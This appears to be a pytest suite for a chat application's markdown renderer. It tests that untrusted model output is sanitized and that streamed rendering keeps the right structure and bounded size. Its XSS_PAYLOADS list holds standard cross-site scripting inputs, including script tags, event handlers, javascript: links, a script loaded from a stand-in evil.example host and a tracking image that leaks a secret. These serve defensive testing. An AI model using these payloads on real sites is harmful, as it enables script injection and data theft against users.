"""Markdown rendering: sanitizing untrusted model output, and the streaming renderer's
correctness and bounded output."""

import html as htmllib
import random
import re
import threading
from html.parser import HTMLParser

import pytest

from chat.rendering import CONT_CLASS, StreamRenderer, render_markdown
from tests.html_structure import structure

ALLOWED_TAGS = {
    "p", "br", "hr", "h1", "h2", "h3", "h4", "h5", "h6", "strong", "em", "del", "code",
    "pre", "blockquote", "ul", "ol", "li", "a", "table", "thead", "tbody", "tr", "th",
    "td", "span", "div", "sup", "sub", "input",
    # MathML of typeset LaTeX
    "math", "semantics", "annotation", "mrow", "mi", "mo", "mn", "ms", "mtext", "mspace", "msup", "msub",
    "msubsup", "mfrac", "msqrt", "mroot", "mover", "munder", "munderover", "mtable", "mtr", "mtd",
    "mstyle", "mpadded", "mphantom", "menclose", "merror", "mmultiscripts", "mprescripts", "none",
}
ALLOWED_ATTRS = {
    "href", "title", "rel", "target", "class", "align", "start", "data-lang", "type", "checked", "disabled",
    "display", "encoding", "mathvariant", "stretchy", "fence", "separator", "lspace", "rspace", "width",
    "largeop", "movablelimits", "form", "minsize", "maxsize", "symmetric", "height", "depth", "accent",
    "accentunder", "columnalign", "rowspacing", "columnspacing", "columnlines", "rowlines", "frame",
    "notation", "voffset", "linethickness", "displaystyle", "scriptlevel",
}
SAFE_SCHEMES = ("http:", "https:", "mailto:")


class _Collector(HTMLParser):
    """Parses HTML the way a browser would see its elements and attributes."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.elements = []

    def handle_starttag(self, tag, attrs):
        self.elements.append((tag, dict(attrs)))

    handle_startendtag = handle_starttag


def assert_safe(html: str) -> None:
    """No active content: only allowed tags/attributes, no handlers, safe URLs only."""
    parser = _Collector()
    parser.feed(html)
    parser.close()
    for tag, attrs in parser.elements:
        assert tag in ALLOWED_TAGS, (tag, html)
        for name, value in attrs.items():
            assert not name.startswith("on"), (name, html)
            assert name in ALLOWED_ATTRS, (name, html)
            if name == "href":
                url = re.sub(r"[\x00-\x20]", "", value or "").lower()
                assert url.startswith(SAFE_SCHEMES), (value, html)
    lowered = html.lower()
    for active in ("<script", "<iframe", "<svg", "<img", "<style", "<object", "<embed", "<form"):
        assert active not in lowered, (active, html)


def text_of(html: str) -> str:
    """Visible text, whitespace-normalised."""
    return " ".join(htmllib.unescape(re.sub(r"<[^>]+>", " ", html)).split())


XSS_PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x]( javascript:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](vbscript:msgbox(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A;avascript&#x3A;alert(1))",
    '[x](javascript:alert(1) "title")',
    "[x][ref]\n\n[ref]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "<iframe src=https://evil.example></iframe>",
    '<a href="javascript:alert(1)">click</a>',
    '<a href="https://ok.example" onclick="alert(1)">click</a>',
    "<style>body{display:none}</style>",
    '<div style="background:url(javascript:alert(1))" onmouseover="alert(1)">hover</div>',
    '<p onmouseover="alert(1)">text</p>',
    "<details open ontoggle=alert(1)>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<form action=javascript:alert(1)><input type=submit>",
    "![x](https://evil.example/pixel.png?leak=secret)",
    '![x](x" onerror="alert(1))',
    "![x](javascript:alert(1))",
    "<!-- comment --><script>alert(1)</script>",
    "<<script>script>alert(1)<</script>/script>",
    '```\n</code></pre><script>alert(1)</script>\n```',
    "```{.btn .btn-danger onclick=alert(1)}\ncode\n```",
    "`<script>alert(1)</script>`",
    "| a | b |\n|---|---|\n| <script>alert(1)</script> | <img src=x onerror=alert(1)> |",
    "> <iframe srcdoc='<script>alert(1)</script>'>",
    "- <a href=javascript:alert(1)>item</a>",
]


@pytest.mark.parametrize("payload", XSS_PAYLOADS)
def test_render_markdown_neutralises_xss(payload):
    out = render_markdown(payload)
    assert_safe(out)
    if "<script" in payload.lower() and "script" in out.lower():
        assert "&lt;script" in out.lower()  # only ever as visible, inert text


def test_raw_html_is_escaped_not_active():
    out = render_markdown("Hello <b>bold</b> <script>alert(1)</script>")
    assert "&lt;b&gt;bold&lt;/b&gt;" in out
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in out


def test_javascript_link_loses_its_href_but_keeps_text():
    out = render_markdown("[click me](javascript:alert(1))")
    assert "click me" in out
    assert "href" not in out


def test_links_are_safe_and_open_in_new_tab():
    out = render_markdown("[site](https://example.com/a?b=1) and <mailto:me@example.com>")
    assert 'href="https://example.com/a?b=1"' in out
    assert 'rel="noopener noreferrer nofollow"' in out
    assert 'target="_blank"' in out
    assert "mailto:" in htmllib.unescape(out)


def test_relative_links_are_dropped():
    out = render_markdown("[logout](/accounts/logout/) [proto](//evil.example)")
    assert "href" not in out


def test_images_are_dropped():
    out = render_markdown("![pixel](https://evil.example/p.png)")
    assert "<img" not in out and "evil.example" not in out


def test_code_blocks_are_highlighted_with_classes():
    out = render_markdown("```python\ndef f(x):\n    return x\n```")
    assert '<div class="codehilite" data-lang="python">' in out
    assert '<span class="k">def</span>' in out
    assert "style=" not in out


def test_unknown_language_and_no_language_still_render_code():
    for fence in ("```nosuchlang", "```"):
        out = render_markdown(f"{fence}\na < b\n```")
        assert '<div class="codehilite"' in out and "a &lt; b" in out


def test_model_cannot_inject_arbitrary_classes():
    out = render_markdown("```{.btn .btn-danger .position-fixed}\ncode\n```")
    assert "btn" not in out and "position-fixed" not in out
    assert "codehilite" in out


def test_tables_render_with_alignment():
    out = render_markdown("| a | b |\n|:--|--:|\n| 1 | 2 |")
    assert "<table>" in out and "<th" in out and "<td" in out
    assert 'align="left"' in out and 'align="right"' in out


def test_lists_and_emphasis():
    out = render_markdown("1. *one*\n2. **two**\n\n- x\n- y")
    assert "<ol>" in out and "<ul>" in out
    assert "<em>one</em>" in out and "<strong>two</strong>" in out


def test_single_newlines_do_not_become_br():
    assert "<br" not in render_markdown("line one\nline two")


def test_render_markdown_is_thread_safe():
    texts = [f"# Title {i}\n\n*para* {i}\n\n```python\nx = {i}\n```" for i in range(8)]
    expected = [render_markdown(t) for t in texts]
    errors = []

    def work(i):
        for _ in range(30):
            if render_markdown(texts[i]) != expected[i]:
                errors.append(i)

    threads = [threading.Thread(target=work, args=(i,)) for i in range(8)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    assert not errors


# ---------------------------------------------------------------------------
# StreamRenderer
# ---------------------------------------------------------------------------

def random_pieces(text: str, seed: int, max_len: int = 12) -> list[str]:
    rng = random.Random(seed)
    pieces, i = [], 0
    while i < len(text):
        n = rng.randint(1, max_len)
        pieces.append(text[i:i + n])
        i += n
    return pieces


def stream(pieces, renderer=None):
    """Feed pieces; return (streamed HTML as the client would show it, outputs)."""
    renderer = renderer or StreamRenderer()
    outputs = [renderer.feed(p) for p in pieces]
    shown = "".join(o["append"] for o in outputs) + (outputs[-1]["tail"] if outputs else "")
    return shown, outputs


def _long_paragraphs():
    rng = random.Random(7)
    words = "alpha beta gamma delta epsilon zeta eta theta iota kappa".split()
    out = []
    for i in range(600):
        out.append(rng.choice(words))
        if i % 9 == 8:
            out[-1] += rng.choice([".", "!", "?"])
        if i % 23 == 0:
            out.append(f"**bold {i}** and `code {i}` and [link {i}](https://example.com/{i})")
    return " ".join(out)


DOCUMENTS = {
    "paragraphs": "First paragraph with *emphasis* and `code`.\n\nSecond one,\nover two lines.\n\nThird.",
    "lists": "Intro:\n\n- one\n- two with **bold**\n  - nested\n\n1. first\n2. second\n\n3. third after blank",
    "code": "Before\n\n```python\ndef f(x):\n\n    return x * 2\n```\nAfter code\n\n~~~js\nlet a = `x`;\n~~~",
    "table": "| name | qty |\n|:-----|----:|\n| apple | 3 |\n| pear | 5 |\n\nDone.",
    "headings_quotes": "# Title\n\nText\n\n## Sub\n\n> quoted\n> more\n\n---\n\nEnd",
    "long_paragraph": _long_paragraphs(),
    "long_list": "\n".join(f"{i}. item number {i} with *some* text" for i in range(1, 120)),
    "long_table": "| a | b |\n|---|---|\n" + "\n".join(f"| row {i} | val {i} |" for i in range(200)),
    "long_code": "```python\n" + "\n".join(f"def f{i}(x):\n    return x + {i}" for i in range(150)) + "\n```\n\nBye.",
    "long_quote": "\n".join(f"> quoted line {i} of a long quote." for i in range(100)),
}


@pytest.mark.parametrize("name", sorted(DOCUMENTS))
@pytest.mark.parametrize("seed", [1, 2, 3])
def test_stream_shows_the_structure_of_the_final_html(name, seed):
    text = DOCUMENTS[name]
    shown, outputs = stream(random_pieces(text, seed))
    assert structure(shown) == structure(render_markdown(text))
    for out in outputs:
        assert_safe(out["append"])
        assert_safe(out["tail"])


@pytest.mark.parametrize("name", sorted(DOCUMENTS))
def test_stream_whole_text_in_one_delta(name):
    text = DOCUMENTS[name]
    shown, _ = stream([text])
    assert structure(shown) == structure(render_markdown(text))


def test_finished_blocks_move_to_append():
    r = StreamRenderer()
    assert r.feed("Hello *wor")["append"] == ""
    out = r.feed("ld*.\n\nNext")
    assert out["append"] == "<p>Hello <em>world</em>.</p>\n"
    assert out["tail"] == "<p>Next</p>\n"


def test_code_fence_is_closed_in_tail_and_emitted_when_it_closes():
    r = StreamRenderer()
    out = r.feed("```python\nx = 1\n\ny = 2")
    assert out["append"] == ""
    assert "codehilite" in out["tail"] and "y" in text_of(out["tail"])
    out = r.feed("\n```\n")
    assert "codehilite" in out["append"] and out["tail"] == ""


def test_indented_text_after_a_list_item_stays_in_the_item_while_streaming():
    text = "1. Step one\n\n    Details for step one.\n\n2. Step two\n\n    real code?\n\nText\n\n    code\n"
    shown, _ = stream(list(text))
    assert "<p>Details for step one.</p>" in shown and shown.count("<ol") == 1
    assert shown.count("codehilite") == 1 and "<code>code" in shown
    assert structure(shown) == structure(render_markdown(text))


def test_finish_renders_whole_reply():
    text = DOCUMENTS["code"]
    r = StreamRenderer()
    stream(random_pieces(text, 5), r)
    assert r.finish() == render_markdown(text)


def test_finish_without_kept_text_needs_the_text():
    r = StreamRenderer(keep_text=False)
    r.feed("abc")
    with pytest.raises(ValueError):
        r.finish()
    assert r.finish("abc") == render_markdown("abc")


def words_of(text):
    return re.findall(r"\S+\s*", text)


TAIL_BOUND = 2000
OUTPUT_BOUND = 4000


def _assert_bounded(outputs):
    assert max(len(o["tail"]) for o in outputs) < TAIL_BOUND
    assert max(len(o["tail"]) + len(o["append"]) for o in outputs) < OUTPUT_BOUND


def test_long_single_paragraph_keeps_tail_bounded():
    rng = random.Random(11)
    words = []
    while sum(len(w) + 1 for w in words) < 20_000:
        words.append(rng.choice(["model", "reply", "stream", "bound", "text"]) + rng.choice(["", "", "", "."]))
    text = " ".join(words)
    r = StreamRenderer(keep_text=False)
    shown, outputs = stream(words_of(text), r)
    _assert_bounded(outputs)
    assert len(r._open) < 2000  # the raw text kept is bounded too
    assert text_of(shown) == text_of(render_markdown(text))
    assert shown.count(f'<p class="{CONT_CLASS}">') > 10


def test_long_single_code_block_keeps_tail_bounded():
    rng = random.Random(12)
    lines = []
    while sum(len(line) + 1 for line in lines) < 20_000:
        i = len(lines)
        lines.append(rng.choice([f"result_{i} = compute(value, {i})", f"if value > {i}:", "    return None", ""]))
    text = "```python\n" + "\n".join(lines)  # never closed while streaming
    shown, outputs = stream(words_of(text))
    _assert_bounded(outputs)
    assert structure(shown) == structure(render_markdown(text + "\n```"))
    pieces = re.findall(r'<div class="([^"]*)"', shown)
    assert len(pieces) > 10 and pieces[0] == "codehilite"
    assert all(p == f"{CONT_CLASS} codehilite" for p in pieces[1:])
    assert shown.count('<span class="k">return</span>') > 100  # later pieces still Python


@pytest.mark.parametrize(
    "text",
    [
        "*" + " ".join(["never closed emphasis and no sentence end"] * 500),
        "`" + " ".join(["an open code span"] * 1200),
        "x" * 30_000,
        "```\n" + "y" * 30_000,
        "| a | b |\n|---|---|\n" + "\n".join(f"| {'w ' * 20} | {i} |" for i in range(400)),
    ],
    ids=["open-emphasis", "open-code-span", "no-spaces", "one-code-line", "wide-table"],
)
def test_pathological_blocks_stay_bounded(text):
    pieces = words_of(text) if " " in text else [text[i:i + 7] for i in range(0, len(text), 7)]
    shown, outputs = stream(pieces)
    _assert_bounded(outputs)
    def letters(html):  # an unclosed ` or * shows as a literal: compare the rest
        return re.sub(r"[\s`*]", "", text_of(html))

    assert letters(shown) == letters(render_markdown(text))


def test_paragraph_cuts_do_not_break_inline_markup():
    text = " ".join(
        f"Sentence {i} has **bold text.** and `code. here` and [a link. ok](https://e.com/{i}) done."
        for i in range(200)
    )
    shown, _ = stream(words_of(text))
    visible = text_of(shown)
    assert "*" not in visible and "`" not in visible and "](" not in visible
    assert shown.count("<strong>") == 200 and shown.count("<a ") == 200


def test_long_table_is_continued_without_repeating_header():
    text = DOCUMENTS["long_table"]
    shown, _ = stream(words_of(text))
    assert shown.count("<thead>") == 1
    assert shown.count(f'<table class="{CONT_CLASS}">') >= 1
    assert shown.count("<tr>") == 201


def test_long_ordered_list_continues_numbering():
    shown, _ = stream(words_of(DOCUMENTS["long_list"]))
    starts = [int(n) for n in re.findall(rf'<ol class="{CONT_CLASS}" start="(\d+)">', shown)]
    assert starts and starts == sorted(starts)
    assert shown.count("<li>") == 119


@pytest.mark.parametrize("seed", [1, 2])
def test_streamed_xss_is_sanitized_in_append_and_tail(seed):
    text = "\n\n".join(XSS_PAYLOADS) + "\n\n" + "<script>alert(1)</script> " * 200
    _, outputs = stream(random_pieces(text, seed, max_len=5))
    for out in outputs:
        assert_safe(out["append"])
        assert_safe(out["tail"])


def test_reply_cut_inside_a_code_block_still_renders_as_code():
    html = render_markdown("Here:\n\n```python\ndef f():\n    return 1")
    assert '<div class="codehilite" data-lang="python">' in html and "```" not in html
    assert render_markdown("```\na\n```\ntext").count("codehilite") == 1


def test_reused_parsers_carry_nothing_from_one_text_to_the_next():
    """cmark parsers are kept and reused (chat/rendering/cmark.py): a link definition, an
    open table or list of one text must not change how the next one renders."""
    from chat.rendering import cmark

    texts = ["[x]: https://a.example\n\nsee [x]", "see [x]", "| a | b |\n|---|---|\n| 1 | 2 |", "| 3 | 4 |",
             "- one\n- two", "three", "```py\nopen fence", "after *the* fence", "<b>raw</b> html"]
    alone = {text: cmark.to_html(text) for text in texts}
    for order in (texts, texts[::-1], texts[1::2] + texts[::2]):
        assert [cmark.to_html(text) for text in order] == [alone[text] for text in order]
    assert "href" not in alone["see [x]"] and "<table>" not in alone["| 3 | 4 |"]
    with cmark.Document("outer *a*") as outer, cmark.Document("inner **b**") as inner:
        assert (outer.html(), inner.html()) == ("<p>outer <em>a</em></p>\n", "<p>inner <strong>b</strong></p>\n")
